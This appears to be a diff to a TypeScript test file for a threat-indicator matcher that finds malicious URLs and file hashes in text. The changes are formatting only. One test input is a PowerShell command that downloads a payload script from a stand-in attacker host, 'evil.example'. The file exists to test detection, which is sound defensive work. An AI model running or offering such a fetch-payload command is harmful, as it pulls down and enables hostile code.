@@ -32,14 +32,15 @@ describe('indicator matching in text', () => {
     expect(find(url, 'Invoke-WebRequest HTTP://EVIL.example/payload.ps1')).toEqual(['http://evil.example/payload.ps1 ← HTTP://EVIL.example/payload.ps1']);
     expect(find(url, '"http://evil.example/payload.ps1?id=7"')).toEqual(['http://evil.example/payload.ps1 ← http://evil.example/payload.ps1']);
     expect(find(url, 'http://evil.example/payload.ps12')).toEqual([]);
-    expect(find([{ type: 'url', value: 'https://evil.example/' }], 'visit https://evil.example now')).toEqual([
-      'https://evil.example/ ← https://evil.example',
-    ]);
+    expect(find([{ type: 'url', value: 'https://evil.example/' }], 'visit https://evil.example now')).toEqual(['https://evil.example/ ← https://evil.example']);
   });
 
   it('finds hashes in any case, alone or after an algorithm name', () => {
     const sha256 = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855';
-    const hashes: MatchableIndicator[] = [{ type: 'sha256', value: sha256 }, { type: 'md5', value: 'd41d8cd98f00b204e9800998ecf8427e' }];
+    const hashes: MatchableIndicator[] = [
+      { type: 'sha256', value: sha256 },
+      { type: 'md5', value: 'd41d8cd98f00b204e9800998ecf8427e' },
+    ];
     expect(find(hashes, `Hashes: SHA256=${sha256.toLowerCase()},MD5=D41D8CD98F00B204E9800998ECF8427E`)).toHaveLength(2);
     expect(find(hashes, `${sha256}0`)).toEqual([]);
   });
